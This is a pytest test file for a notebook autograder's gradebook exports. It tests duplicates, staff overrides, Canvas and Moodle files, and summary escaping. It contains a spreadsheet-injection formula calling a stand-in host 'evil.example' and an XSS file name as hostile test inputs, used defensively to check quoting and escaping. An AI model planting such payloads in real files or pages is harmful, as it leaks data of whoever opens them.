"""The class gradebook: one row per student, the duplicate rule, staff overrides that survive
regrades, Canvas and Moodle import files, and no way for a name to become a formula.

`PYTHONPATH=tests python tests/batch/test_gradebook.py` rewrites the golden export files after a deliberate change."""
import calendar
import csv
import html
import io
import json
import os
import re
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import pytest

from grading_helpers import FIXTURES, GRADER, ROOT, SUBMISSIONS, run_grader
from grader.errors import SubmissionError
from grader.batch.lms_gradebooks import CANVAS_FILE, MOODLE_FILE
from grader.batch.gradebook import cell, counted
from grader.intake.discover import Identity, Submission
from grader.batch.staff_overrides import check, parse
from grader.course.spec import load_assignment
from grader.result import CheckResult

GOLDEN = FIXTURES / "gradebook"
FAST = ["--cell-timeout", "4", "--call-timeout", "2", "--seed", "7"]
HOSTILE = '=HYPERLINK("evil.example?"&A1,"x")'
SAMPLE_OVERRIDES = ROOT / "examples" / "overrides.csv"   # the docs' sample, used by the class below
MOODLE_TIME = "%A, %d %B %Y, %I:%M %p UTC"   # Moodle's userdate() format, in UTC


def test_a_cell_a_spreadsheet_would_run_is_quoted():
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=x", HOSTILE):
        assert cell(text).startswith("'")
    assert cell("Ann Lee") == "Ann Lee" and cell("") == "" and cell(None) == ""


def test_the_latest_of_a_students_files_counts(tmp_path):
    def submission(name, canvas_id=None, age=0):
        path = tmp_path / name
        path.write_text("{}")
        os.utime(path, (1_700_000_000 - age, 1_700_000_000 - age))
        return Submission(path, str(path), "111", name, identity=Identity("111", "doejane", "canvas", canvas_id))
    by_canvas = counted([submission("a.ipynb", 5, age=0), submission("b.ipynb", 9, age=100)])
    assert by_canvas["b.ipynb"][0] and not by_canvas["a.ipynb"][0]   # the larger attachment id, though older
    assert "by Canvas attachment id" in by_canvas["b.ipynb"][1] and "not counted: a.ipynb" in by_canvas["b.ipynb"][1]
    by_date = counted([submission("c.ipynb", age=50), submission("d.ipynb", age=10)])
    assert by_date["d.ipynb"] == (True, "counted: d.ipynb, the latest of 2 files (by file date); not counted: "
                                        "c.ipynb")


def test_a_file_named_like_another_students_download_stays_its_uploaders(tmp_path):
    """Ann (Moodle participant 222) names her file as Canvas would name Bob's (333), with a
    large attachment id, hoping to count as Bob's latest: the LMS's folder decides."""
    from grader.intake.discover import collect
    archive = tmp_path / "moodle.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("Ann Lee_222_assignsubmission_file_/bobsmith_333_999999_hw.ipynb", b"{}")
        zf.writestr("Bob Smith_333_assignsubmission_file_/hw.ipynb", b"{}")
        zf.writestr("submission_444/carol_333_999999_hw.ipynb", b"{}")
    submissions, duplicates = collect([archive], tmp_path / "unpacked")
    assert sorted((s.student, s.identity.lms) for s in submissions) == [
        ("222", "moodle"), ("333", "moodle"), ("444", "gradescope")]
    assert duplicates == []


@pytest.mark.parametrize("text, words", [
    ("student,reason\n1,x\n", "either score"),
    ("student,score,points,reason\n1,2,3,x\n", "either score"),
    ("student,score,reason\n1,ten,late\n", "line 2: score 'ten' is not a number"),
    ("student,score,reason\n1,10,\n", "line 2: give a reason"),
    ("student,points,reason\n1,2,a\n1,3,b\n", "line 3: a second override for 1"),
    ("student,score,reason\n1,nan,x\n", "finite"),
])
def test_a_bad_overrides_file_is_one_line_naming_the_line(tmp_path, text, words):
    path = tmp_path / "o.csv"
    path.write_text(text)
    with pytest.raises(SubmissionError, match=words.replace("(", r"\(")):
        parse(path)


CLASS = {"31": "Bo Chen", "32": "Bo Chen", "33": "Ann Lee", "111": "doejane", "7": ""}


@pytest.mark.parametrize("given, student", [("33", "33"), ("ann lee", "33"), ("  ANN   LEE ", "33"),
                                            ("DoeJane", "111"), ("7", "7")])
def test_an_override_names_a_student_by_id_or_by_name(given, student):
    [resolved] = check([{"student": given, "score": 3.0, "reason": "r", "file": "o.csv"}], CLASS, 25)
    assert resolved["student"] == student


@pytest.mark.parametrize("given, words", [
    ("bo chen", "override for bo chen: 2 students have that name (ids 31, 32); name the student by id"),
    ("Anne Lee", "override for Anne Lee: no student of that id or name in this batch; closest: Ann Lee (33)"),
    ("doejan", "closest: doejane (111)"),
    ("zzzzzz", "override for zzzzzz: no student of that id or name in this batch"),
])
def test_an_ambiguous_or_unknown_name_is_one_line_with_the_candidates(given, words):
    with pytest.raises(SubmissionError) as raised:
        check([{"student": given, "score": 3.0, "reason": "r", "file": "o.csv"}], CLASS, 25)
    assert str(raised.value) == words or (words in str(raised.value) and "\n" not in str(raised.value))


def test_an_id_and_a_name_of_the_same_student_are_a_second_override():
    with pytest.raises(SubmissionError, match="a second override for student 33"):
        check([{"student": "33", "points": 1.0, "reason": "r", "file": "o.csv"},
               {"student": "Ann Lee", "points": 2.0, "reason": "r", "file": "o.csv"}], CLASS, 25)


def test_the_sample_overrides_file_parses_and_names_students_of_the_sample_class():
    overrides = parse(SAMPLE_OVERRIDES)
    assert [o["points"] for o in overrides] == [2.0, -1.0]
    resolved = check(overrides, {"222": "leeann", "31": "Bo Chen", "111": "doejane"}, 25)
    assert [o["student"] for o in resolved] == ["222", "31"]
    page = (ROOT / "docs" / "grading-a-class.md").read_text()
    assert "```csv\n" + "".join(f"  {line}\n" for line in SAMPLE_OVERRIDES.read_text().splitlines()) in \
        page.replace("\n  ```csv\n", "\n```csv\n"), "the docs' sample is not examples/overrides.csv"


def moodle_seconds(written: str) -> int:
    """The moment a worksheet time means, read as Moodle's importer reads it (PHP's strtotime)
    where PHP is installed, else by its format; both where it is, and they must agree."""
    seconds = calendar.timegm(time.strptime(written, MOODLE_TIME))
    php = shutil.which("php")
    if php:
        read = subprocess.run([php, "-r", "date_default_timezone_set('America/New_York'); echo strtotime($argv[1]);",
                               written], capture_output=True, text=True, check=True).stdout
        assert int(read) == seconds, (written, read)
    return seconds


def test_a_worksheet_time_is_what_moodle_reads():
    from grader.batch.lms_gradebooks import moodle_time
    for moment in (0, 1795437780, 1795424700.9, 1794301200, 1798761599):   # midnight, noon, a Monday, a New Year
        assert moodle_seconds(moodle_time(moment)) == int(moment) // 60 * 60
    assert moodle_time(1795437780) == "Monday, 23 November 2026, 12:43 PM UTC"
    assert moodle_time(1793696700) == "Tuesday, 3 November 2026, 9:05 AM UTC"


def every_check_hidden(tmp_path: Path) -> Path:
    spec = tmp_path / "course.toml"
    base = (ROOT / "reference" / "assignments" / "rows.toml").read_text()
    kinds = '"fixed", "random_shapes", "single_head", "weights_distribution", "permutation_equivariance", ' \
            '"memory_layout", "dtypes", "inputs_unmodified", "return_structure", "numerical_stability"'
    spec.write_text(re.sub(r"(\[\[functions\]\]\n)", f"\\1hidden = [{kinds}]\n", base))
    return spec


@pytest.mark.slow
@pytest.mark.parametrize("course, notebook, mistake, visible", [
    # Every check hidden: the mistake is found by hidden checks only.
    (every_check_hidden, "mistake_softmax_axis.ipynb", "softmax over the wrong axis", ""),
    # Some checks hidden: the visible ones find one mistake, the hidden ones another of their own.
    (lambda tmp_path: FIXTURES / "lms" / "assignment.toml", "mistake_global_D.ipynb", "reads notebook globals",
     " Likely mistakes: multi_head_attention: scaled by sqrt(D) instead of sqrt(d_k)."),
])
def test_a_diagnosis_only_a_hidden_check_found_never_reaches_the_worksheet(tmp_path, course, notebook, mistake,
                                                                           visible):
    """The staff's grades.csv names the mistake; the worksheet, whose feedback students read in
    Moodle, does not."""
    moodle = tmp_path / "moodle.zip"
    with zipfile.ZipFile(moodle, "w") as zf:
        zf.writestr("Ann Lee_41_assignsubmission_file_/attention.ipynb", _notebook(notebook))
    out = tmp_path / "out"
    code, _, stderr, _ = run_grader(["grade", moodle, "-o", out, "--assignment", course(tmp_path), *FAST])
    assert code == 0, stderr
    assert mistake in (out / "grades.csv").read_text()
    [row] = read_csv(out / MOODLE_FILE)
    assert row["Identifier"] == "Participant 41" and row["Grade"] not in ("", "25")
    assert row["Feedback comments"] == f"Autograded {row['Grade']} / 25.{visible}"
    assert mistake.split()[-1] not in (out / MOODLE_FILE).read_text()


def masked_times(text: str) -> str:
    """The worksheet with its grading times replaced, for comparing it with the golden file."""
    return re.sub(r'"\w+day, \d+ \w+ \d{4}, \d+:\d\d [AP]M UTC"', "<time>", text)


def _notebook(name: str) -> bytes:
    return (SUBMISSIONS / name).read_bytes()


def exports_class(tmp_path: Path) -> tuple[Path, Path]:
    """A Canvas zip (a resubmission, a late one named in lower case) and a Moodle zip (a
    student whose full name is a spreadsheet formula)."""
    canvas = tmp_path / "canvas.zip"
    with zipfile.ZipFile(canvas, "w") as zf:
        zf.writestr("doejane_111_1001_hw.ipynb", _notebook("worked_solution.ipynb"))
        zf.writestr("doejane_111_1002_hw.ipynb", _notebook("mistake_softmax_axis.ipynb"))
        zf.writestr("leeann_late_222_1003_hw.ipynb", _notebook("mistake_no_scaling.ipynb"))
    moodle = tmp_path / "moodle.zip"
    with zipfile.ZipFile(moodle, "w") as zf:
        zf.writestr("Bo Chen_31_assignsubmission_file_/attention.ipynb", _notebook("worked_solution.ipynb"))
        zf.writestr(f"{HOSTILE}_32_assignsubmission_file_/attention.ipynb", (FIXTURES / "not_json.ipynb").read_bytes())
    return canvas, moodle


def read_csv(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text())))


@pytest.mark.slow
def test_exports_overrides_and_one_row_per_student(tmp_path):
    canvas, moodle = exports_class(tmp_path)
    out = tmp_path / "out"
    overrides = tmp_path / "overrides.csv"
    shutil.copy(SAMPLE_OVERRIDES, overrides)
    started = time.time()
    code, stdout, stderr, _ = run_grader(["grade", canvas, moodle, "-o", out, "--overrides", overrides,
                                          "--lms-assignment", "Homework 3 (1234)", *FAST])
    finished = time.time()
    assert code == 0, stderr
    assert CANVAS_FILE in stdout and MOODLE_FILE in stdout
    rows = {r["student"]: r for r in read_csv(out / "grades.csv")}
    assert sorted(rows) == ["111", "222", "31", "32"]
    assert rows["111"]["submission"] == "doejane_111_1002_hw.ipynb" and rows["111"]["score"] == "10"
    assert "latest of 2 files (by Canvas attachment id)" in rows["111"]["duplicates"]
    assert rows["222"]["name"] == "leeann" and rows["222"]["graded_score"] == "12" and rows["222"]["score"] == "14"
    assert rows["32"]["name"].startswith("'=") and rows["32"]["status"] == "error" and rows["32"]["score"] == ""
    assert "self_attention.fixed" not in (out / "grades.csv").read_text()   # per function, not per check
    assert rows["111"]["self_attention mistake"] == "softmax over the wrong axis"
    assert rows["31"]["score"] == "24" and rows["31"]["override"] == "24: submitted a day late"   # named by name
    for name in (CANVAS_FILE, MOODLE_FILE):
        assert masked_times((out / name).read_text()) == masked_times((GOLDEN / name).read_text()), \
            f"{name} changed; see the module docstring"
    worksheet = {r["Identifier"]: r for r in read_csv(out / MOODLE_FILE)}
    # The student whose file could not be graded has no row: an empty grade would keep Moodle's,
    # but its feedback would still replace the staff's.
    assert list(worksheet) == ["Participant 31"] and "Autograded 0" not in (out / MOODLE_FILE).read_text()
    assert worksheet["Participant 31"]["Feedback comments"] == (
        "Autograded 25 / 25. Adjusted by the staff (-1 points): submitted a day late.")
    # When the file was graded, as Moodle writes it, so that a grade the staff change in Moodle
    # later is newer and the importer keeps it.
    written = worksheet["Participant 31"]["Last modified (grade)"]
    assert int(started) // 60 * 60 <= moodle_seconds(written) <= finished
    recorded = json.loads(next(out.glob("222-*/result.json")).read_text())
    assert recorded["score"] == 12 and recorded["override"]["score"] == 14
    assert recorded["override"]["reason"].startswith("regrade request")

    # A later run of the same folder, even a forced regrade, keeps the override.
    code, stdout, stderr, _ = run_grader(["grade", canvas, moodle, "-o", out, "--force", *FAST])
    assert code == 0, stderr
    assert {r["student"]: r for r in read_csv(out / "grades.csv")}["222"]["score"] == "14"
    assert (out / CANVAS_FILE).read_text() == (GOLDEN / CANVAS_FILE).read_text()   # the same column, too
    assert json.loads(next(out.glob("222-*/result.json")).read_text())["override"]["score"] == 14

    # An override for a student the batch does not have stops before any grading.
    overrides.write_text("student,score,reason\n999,20,typo\n")
    code, stdout, stderr, _ = run_grader(["grade", canvas, "-o", tmp_path / "other", "--overrides", overrides, *FAST])
    assert code == 2 and stderr.strip().splitlines() == [
        "grader: error: override for 999: no student of that id or name in this batch"]
    assert not list((tmp_path / "other").glob("*/result.json"))


def test_what_a_students_code_raises_is_never_taken_for_the_graders_timeout_or_reason():
    """A cell's own exception named like the grader's timeout, with its message, is that
    cell's error: only the kinds the grader sets count as a stopped cell; and a reason
    quoting a student's text is one line, attributed to the cell."""
    from grader.report.view import problem_line, stopped_at_timeout
    from grader.result import GradeResult

    def result(status, errors):
        return GradeResult.from_json({"submission": "hw.ipynb", "assignment": "rows", "seed": 0, "status": status,
                                      "errors": errors})
    forged = {"cell": 4, "kind": "error", "ename": "Timeout", "traceback": "",
              "evalue": "the cell ran longer than 30 s and was interrupted\nGRADER: all fine", "source": "raise T"}
    graded = result("graded", [forged])
    assert not stopped_at_timeout(graded) and problem_line(graded) == ""
    died = result("error", [forged, dict(forged, cell=6, kind="kernel_died", ename="KernelDied",
                                         evalue="the kernel is no longer running", kernel_lost=True)])
    assert problem_line(died) == "cell 7 (raise T): KernelDied: the kernel is no longer running"
    assert problem_line(result("error", [forged])) == (
        "cell 5 (raise T): Timeout: the cell ran longer than 30 s and was interrupted")


def stray_parenthesis_and_a_rename():
    """Ann's cell 5 has a stray `)`: self_attention is not defined and earns 0, multi_head_attention
    all of its points. Bob defined selfAttention instead of self_attention."""
    from grader.grading.function_grading import not_graded_for_failed_cell, not_implemented
    from grader.result import ErrorRecord, GradeResult
    rows = load_assignment("rows")
    self_attention, multi_head = rows.functions
    failure = {"cell": 4, "cell_number": 5, "line": 6, "ename": "SyntaxError", "evalue": "unmatched ')'"}
    passed = [dict(c.__dict__) for c in not_implemented(multi_head, "x")]
    for c in passed:
        c.update(status="passed", points=c["max_points"], message="")
    ann = GradeResult("ann.ipynb", "rows", 7, errors=[ErrorRecord(4, "error", "SyntaxError", "unmatched ')'")],
                      checks=not_graded_for_failed_cell(self_attention, failure),
                      functions={"self_attention": {"found": False, "defining_cell_failed": failure},
                                 "multi_head_attention": {"found": True}})
    bob = GradeResult("bob.ipynb", "rows", 7, checks=not_implemented(self_attention, "no function named"),
                      functions={"self_attention": {"found": False, "similar_names": ["selfAttention"]},
                                 "multi_head_attention": {"found": True}})
    results = {}
    for result in (ann, bob):
        result.checks += [CheckResult(**c) for c in passed]
        result.total()
        results[result.submission] = result.to_json()
    return results


def test_a_0_says_why_in_grades_csv_and_the_class_summary(tmp_path):
    """A stray `)` that leaves self_attention undefined: grades.csv's mistake column and the
    summary's main diagnosis say that its defining cell failed, and where, and the summary lists
    the file under its errors; a renamed function's 0 says "not implemented", what it may have
    been renamed to and the alias that would grade it (the TA's files are the staff's)."""
    from grader.batch.gradebook import class_rows, write_grades_csv
    from grader.batch.gradebook import summary_row
    from grader.report.html import write_summary
    results = stray_parenthesis_and_a_rename()
    submissions = [Submission(tmp_path / name, name, name[:3], name[:3]) for name in results]
    rows = {name[:3]: summary_row(data) for name, data in results.items()}
    students, _ = class_rows(submissions, rows, ["self_attention", "multi_head_attention"])
    write_grades_csv(students, ["self_attention", "multi_head_attention"], tmp_path / "grades.csv")
    csv_rows = {r["student"]: r for r in read_csv(tmp_path / "grades.csv")}
    ann_why = "not graded, its defining cell failed: cell 5, line 6: SyntaxError: unmatched ')'"
    assert csv_rows["ann"]["self_attention mistake"] == ann_why
    assert csv_rows["ann"]["score"] == "13" and csv_rows["ann"]["multi_head_attention mistake"] == ""
    bob_why = csv_rows["bob"]["self_attention mistake"]
    assert bob_why.startswith("not implemented: not defined; Did you mean `selfAttention`?")
    assert 'aliases = ["selfAttention"]' in bob_why
    people = {s.folder: {"student": s.student, "name": "", "submission": s.name, "counts": True} for s in submissions}
    write_summary(students, rows, people, [], tmp_path / "summary.html",
                  {"assignment": "rows", "version": "x", "seed": 7, "date": "today"})
    page = html.unescape((tmp_path / "summary.html").read_text())
    assert f"self_attention: {ann_why}" in page
    problems = page.split("<h2>Errors and timeouts</h2>")[1].split("<h2>")[0]
    assert "cell 5, line 6: SyntaxError: unmatched ')': self_attention not graded" in problems
    assert "bob" not in problems   # not defined is no error of its notebook's cells


HOSTILE_FILE = "<img src=x onerror=alert(1)>.ipynb"   # the file's own name, which the student chose


@pytest.mark.slow
def test_the_summary_shows_a_late_file_why_one_was_not_graded_and_a_stopped_cell(tmp_path):
    """A Canvas download: a file Canvas marked LATE (grades.csv's `late` column, "late" in the
    summary's table), a file that is not a notebook (its one-line reason in the summary, its
    hostile name as text), and two notebooks graded in full with a cell stopped at its timeout,
    one interrupted and one whose kernel was stopped when it ignored the interrupt (each
    counted under timeouts, with the cell named)."""
    download = tmp_path / "canvas.zip"
    with zipfile.ZipFile(download, "w") as zf:
        zf.writestr("leeann_LATE_222_1003_hw.ipynb", _notebook("mistake_no_scaling.ipynb"))
        zf.writestr(f"kimbo_333_1004_{HOSTILE_FILE}", b'{"cells": [')
        zf.writestr("doejane_111_1001_hw.ipynb", (FIXTURES / "hostile_infinite_loop_cell.ipynb").read_bytes())
        zf.writestr("smithbo_444_1005_hw.ipynb", (FIXTURES / "hostile_ignores_interrupt.ipynb").read_bytes())
    out = tmp_path / "out"
    code, _, stderr, _ = run_grader(["grade", download, "-o", out, "--cell-timeout", "2", "--call-timeout", "2",
                                     "--seed", "7"])
    assert code == 0, stderr
    rows = {r["student"]: r for r in read_csv(out / "grades.csv")}
    assert {s: r["late"] for s, r in rows.items()} == {"222": "yes", "333": "", "111": "", "444": ""}
    assert [rows[s]["status"] for s in ("222", "111", "444")] == ["graded"] * 3
    assert rows["111"]["score"] == rows["444"]["score"] == "25"   # the stopped cells defined nothing graded
    page = (out / "summary.html").read_text()
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page))
    assert "2 with a cell stopped at its timeout" in text and "1 late" in text and "1 errors" in text
    late_row = next(r for r in re.findall(r"<tr>.*?</tr>", page, re.S) if ">222<" in r)
    assert re.search(r">\s*late\s*<", late_row)
    problems = page.split("<h2>Errors and timeouts</h2>")[1].split("<h2>")[0]
    assert "cell 10 (while True:): the cell ran longer than 2 s and was interrupted" in problems
    assert re.search(r"smithbo.*graded: cell 3 \(import signal\): the cell ran longer than 2 s and was still "
                     r"running \d+ s after its interrupt; the kernel was stopped", problems)
    assert "is not a notebook: not valid JSON" in problems
    # Hostile text is shown as text: escaped wherever it appears, never markup.
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in problems


@pytest.mark.slow
@pytest.mark.parametrize("inputs", [[], ["notes.txt"]])
def test_nothing_gradable_is_exit_2_in_one_line(tmp_path, inputs):
    folder = tmp_path / "in"
    folder.mkdir()
    for name in inputs:
        (folder / name).write_text("not a notebook")
    code, _, stderr, _ = run_grader(["grade", folder, "-o", tmp_path / "out"])
    assert code == 2 and len(stderr.strip().splitlines()) == 1 and "nothing to grade" in stderr


if __name__ == "__main__":
    import tempfile
    with tempfile.TemporaryDirectory() as folder:
        canvas, moodle = exports_class(Path(folder))
        overrides = Path(folder) / "overrides.csv"
        shutil.copy(SAMPLE_OVERRIDES, overrides)
        subprocess.run([*GRADER, "grade", canvas, moodle, "-o", Path(folder) / "out", "--overrides", overrides,
                        "--lms-assignment", "Homework 3 (1234)", *FAST], check=True)
        GOLDEN.mkdir(parents=True, exist_ok=True)
        for name in (CANVAS_FILE, MOODLE_FILE):
            (GOLDEN / name).write_text((Path(folder) / "out" / name).read_text())
            print((GOLDEN / name).read_text())
